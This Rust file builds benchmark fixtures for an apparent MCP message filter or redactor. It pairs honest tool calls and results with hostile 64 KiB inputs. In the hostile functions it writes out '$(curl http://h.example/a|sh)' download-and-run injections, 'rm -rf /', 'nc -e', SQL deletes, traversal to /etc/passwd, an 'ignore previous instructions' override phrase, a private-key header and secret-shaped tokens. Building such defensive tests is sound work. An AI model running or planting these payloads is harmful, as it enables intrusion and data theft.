//! The fixed messages that costs are measured on: honest ones of the usual kinds, and hostile ones of 64 KiB.

use serde_json::{Value, json};

/// Honest prose and honest code, both our own or Apache's.
const PROSE: &str = include_str!("../../../LICENSE");
const CODE: &str = include_str!("../../src/message/reader/mod.rs");

fn cut(text: &str, len: usize) -> String {
    let mut out: String = text.chars().cycle().take(len).collect();
    while out.len() > len {
        out.pop();
    }
    out
}

/// A `tools/call` with these arguments.
pub(crate) fn call(tool: &str, arguments: &Value) -> Vec<u8> {
    json!({"jsonrpc": "2.0", "id": 7, "method": "tools/call", "params": {"name": tool, "arguments": arguments}})
        .to_string()
        .into_bytes()
}

/// A `tools/call` result.
pub(crate) fn result(result: &Value) -> Vec<u8> {
    json!({"jsonrpc": "2.0", "id": 7, "result": result}).to_string().into_bytes()
}

fn record(at: usize) -> Value {
    json!({"id": at, "name": format!("item {at}"), "price": at as f64 * 1.25, "active": at.is_multiple_of(3), "tags": ["a", "red", "new"],
        "owner": {"login": format!("user{at}"), "url": format!("https://api.example/users/{at}")}, "note": null})
}

/// A tool as a listing defines it.
pub(crate) fn tool(at: usize) -> Value {
    json!({"name": format!("list_records_{at}"), "title": "List records", "description": cut(PROSE, 220),
        "inputSchema": {"type": "object", "required": ["path"], "properties": {
            "path": {"type": "string", "description": "Where the records are kept, relative to the project"},
            "limit": {"type": "integer", "minimum": 1, "maximum": 500, "description": "How many to return"},
            "order": {"type": "string", "enum": ["asc", "desc"], "default": "asc"},
            "filter": {"type": "object", "additionalProperties": {"type": "string"}, "description": "Field to value"}}},
        "annotations": {"readOnlyHint": true, "title": "List"}})
}

/// Honest messages by name, with whether they flow to the server.
pub(crate) fn honest() -> Vec<(&'static str, bool, Vec<u8>)> {
    let text = |len| json!({"content": [{"type": "text", "text": cut(PROSE, len)}]});
    vec![
        ("call 250 B", true, call("add_note", &json!({"title": "Weekly report", "content": cut(PROSE, 110)}))),
        (
            "call 2 KB prose",
            true,
            call(
                "add_note",
                &json!({"title": "Weekly report", "content": cut(PROSE.get(200..).unwrap_or(PROSE), 1900)}),
            ),
        ),
        ("call 2 KB code", true, call("write_file", &json!({"path": "src/reader.rs", "content": cut(CODE, 1900)}))),
        ("call 1.6 KB records", true, call("save", &json!({"records": (0..9).map(record).collect::<Vec<_>>()}))),
        (
            "result 54 KB structured",
            false,
            result(&json!({"content": [], "structuredContent": (0..300).map(record).collect::<Vec<_>>()})),
        ),
        ("result 64 KB prose", false, result(&text(64 << 10))),
        ("result 64 KB code", false, result(&json!({"content": [{"type": "text", "text": cut(CODE, 64 << 10)}]}))),
        ("result 1 MB prose", false, result(&text(1 << 20))),
        ("argument of prose", true, call("x", &json!({"x": cut(PROSE, 64 << 10)}))),
        ("list 5 tools", false, result(&json!({"tools": (0..5).map(tool).collect::<Vec<_>>()}))),
        ("list 100 tools", false, result(&json!({"tools": (0..100).map(tool).collect::<Vec<_>>()}))),
    ]
}

/// Hostile results of 64 KiB: secrets that must be taken out everywhere.
fn floods() -> Vec<(&'static str, Vec<u8>)> {
    const SIZE: usize = 64 << 10;
    let key = |at: usize| {
        let digits = (0..16).map(|place| char::from(b'A' + ((at >> place) * 7 + place * 5 + at) as u8 % 26));
        format!("AKIA{} ", digits.collect::<String>())
    };
    let text = |text: String| result(&json!({"content": [{"type": "text", "text": text}]}));
    // As JSON, a block of its own takes more than the secret in it.
    let apart: Vec<_> = (0..SIZE / 47).map(|at| json!({"type": "text", "text": key(at)})).collect();
    let line = "\"$in\"sgp_local_145cc49011dfe67596350619976d2d7f69bc0ede\"directrices constructor]['prototype${@phpinfo TOKEN=tfp_ET8xGYwCg1BJKXxpnORukoBGGwdpAqtbejzI1tBM1OXmP53kGEgDMb0xVBf ";
    vec![
        (
            "secrets in a definition",
            result(
                &json!({"tools": [{"name": "a", "description": cut(line, SIZE), "inputSchema": {"type": "object"}}]}),
            ),
        ),
        ("secrets, all different", text((0..SIZE / 21).map(key).collect())),
        ("secrets, all the same", text(cut(&key(7), SIZE))),
        ("secrets, each a block", result(&json!({"content": apart}))),
    ]
}

/// Hostile messages of 64 KiB by name, with whether they flow to the server; most are calls with an argument nobody knows the
/// kind of.
pub(crate) fn hostile() -> Vec<(&'static str, bool, Vec<u8>)> {
    let calls = calls().into_iter().map(|(name, bytes)| (name, true, bytes));
    calls.chain(floods().into_iter().map(|(name, bytes)| (name, false, bytes))).collect()
}

fn calls() -> Vec<(&'static str, Vec<u8>)> {
    const SIZE: usize = 64 << 10;
    let x = |text: String| call("x", &json!({"x": text}));
    let nested = |text: &str, times: usize| {
        (0..times).fold(text.to_owned(), |text, _| data_encoding::BASE64.encode(text.as_bytes()))
    };
    let percent = |text: &str| text.bytes().map(|byte| format!("%{byte:02x}")).collect::<String>();
    let keywords = "curl eval exec select union base64 ignore previous instructions system prompt password secret token \
                    AKIA ghp_ sk-ant- BEGIN PRIVATE KEY /etc/passwd .ssh/id_rsa rm -rf / <script> sudo wget nc -e ";
    vec![
        ("keywords", x(cut(keywords, SIZE))),
        (
            "paths, each an argument",
            call(
                "op",
                &json!(
                    (0..SIZE / 27)
                        .map(|at| (format!("k{at}"), json!("/etc/cron.d/x")))
                        .collect::<serde_json::Map<_, _>>()
                ),
            ),
        ),
        // Each string is an attack on whatever reads it, and no two are the same.
        (
            "attacks, each a string",
            call(
                "x",
                &json!({"x": (0..256)
                    .map(|at| {
                        let lead = format!("kw{at}'; DELETE FROM t{at} WHERE 1=1 --/opt/app{at}/.aws/credentials $(curl http://h{at}.example/a|sh) ");
                        cut(&format!("{lead}eval(java.lang.Runtime) sentry_{at:032x} <script>x({at})</script> ~/.ssh/id{at} "), 250)
                    })
                    .collect::<Vec<_>>()}),
            ),
        ),
        // What looks like command lines, paths and addresses, and blocks nothing.
        (
            "short commands, each a string",
            call(
                "x",
                &json!({"x": (0..1500).map(|at| format!("ls -l /srv/d{at} | grep {at:x} && cat n{at}.md")).collect::<Vec<_>>()}),
            ),
        ),
        // Patterns where programs' names stand: each may be any program.
        (
            "patterns for programs, each a string",
            call(
                "x",
                &json!({"x": (0..1000).map(|at| format!("/*{0}{at};/b*{0};/?{0}*;/*{0}?;/{0}*{0};/*r{0}", char::from(b'a' + (at % 26) as u8))).collect::<Vec<_>>()}),
            ),
        ),
        (
            "values in values, each a path",
            call(
                "x",
                &json!({"x": (0..250).map(|at| format!("a{at} {}", "-r=/dev/shm/".repeat(21))).collect::<Vec<_>>()}),
            ),
        ),
        // What is asked of one command of a value may hang on all of them.
        ("commands into shells, in a host", call("resolve", &json!({"host": cut("a|sh merakiToken ", SIZE)}))),
        ("names of programs, in a name", call("lookup", &json!({"name": cut("sort;cut;", SIZE)}))),
        // Each key has no end of its own.
        (
            "private keys",
            x(cut(
                "-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEAt98VnRcQGtQcjkYyblZX1R1WgVzIuiyScpoUfcWpdIigTWxf\n ",
                SIZE,
            )),
        ),
        (
            "provider secrets",
            x(cut(
                "adafruit_api_key = \"Sg6k2DBIuBpHau9RPMcCm3VnZu8gTPHm\" TOKEN=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 TOKEN=ghp_jY6IpFcfALM0oTZ82G61SNXnTJruGARD4YXv ",
                SIZE,
            )),
        ),
        ("near-miss secrets", x(cut("api_key = \"AKIAIOSFODNN7EXAMPL\" token: ghp_xxxxxxxxxxxxxxxxxx ", SIZE))),
        ("spaces", x(" ".repeat(SIZE))),
        ("one letter", x("a".repeat(SIZE))),
        ("digits", x(cut("4111 1111 1111 1112 ", SIZE))),
        ("e-mail runs", x(cut("a@b.c@d.e@", SIZE))),
        ("unclosed tags", x(cut("<a <script <img src= ", SIZE))),
        ("eyJ runs", x(cut("eyJ", SIZE))),
        ("percent, three deep", x(cut(&percent(&percent("../../etc/passwd ")), SIZE))),
        ("%25 run", x(format!("%{}", cut("25", SIZE)))),
        ("base64, nested", x(cut(&nested(&cut(PROSE, 12 << 10), 5), SIZE))),
        ("base64 tokens", x(cut("aGVsbG8gd29ybGQgaGVsbG8gd29ybGQ= ", SIZE))),
        ("U+FDFA", x("\u{FDFA}".repeat(SIZE / 3))),
        ("combining marks", x(format!("a{}", "\u{0301}".repeat(SIZE / 2)))),
        ("full-width", x("\u{FF41}\u{FF52}".repeat(SIZE / 6))),
        ("mixed scripts", x(cut("pаypаl ехес ", SIZE))),
        ("shell quotes", x(cut("c''a\"\"t\\ $(e`c`ho) ${IFS}; ", SIZE))),
        ("shell, command", call("run", &json!({"command": cut("a;b|c&&d $(e) `f` > g; ", SIZE)}))),
        ("shell, quotes open", call("run", &json!({"command": cut("sh -c 'sh -c \"", SIZE)}))),
        ("shell, snippets", call("run", &json!({"command": cut("python3 -c x;", SIZE)}))),
        ("shell, wrappers", call("run", &json!({"command": cut("sudo env ", SIZE)}))),
        ("shell, redirects", call("run", &json!({"command": cut(">a<b ", SIZE)}))),
        ("shell, braces", call("run", &json!({"command": cut("{a,b}{c,d}", SIZE)}))),
        ("path, dots", call("read", &json!({"path": cut("../", SIZE)}))),
        ("sql, comments", call("run_sql", &json!({"query": cut("/**/or 1=1--' union select ", SIZE)}))),
        (
            "deep arrays",
            format!(
                r#"{{"jsonrpc":"2.0","id":1,"method":"x","params":{{"x":{}1{}}}}}"#,
                "[".repeat(100),
                "]".repeat(100)
            )
            .into_bytes(),
        ),
        ("320 deep arrays", {
            let one = format!("{}1{}", "[".repeat(100), "]".repeat(100));
            format!(r#"{{"jsonrpc":"2.0","id":1,"method":"x","params":{{"x":[{}]}}}}"#, vec![one; 320].join(","))
                .into_bytes()
        }),
        (
            "6,500 keys",
            call("x", &(0..6500).map(|at| (format!("k{at}"), json!(1))).collect::<serde_json::Map<_, _>>().into()),
        ),
        ("16,300 strings", call("x", &json!({"x": vec!["a"; 16_300]}))),
        ("10,900 phrases", call("x", &json!({"x": vec!["a b"; 10_900]}))),
        ("10,900 paths", call("x", &json!({"x": vec!["a/b"; 10_900]}))),
        ("\\u escapes", {
            let escapes = "\\u0061".repeat(SIZE / 6);
            format!(r#"{{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{{"name":"x","arguments":{{"x":"{escapes}"}}}}}}"#).into_bytes()
        }),
    ]
}
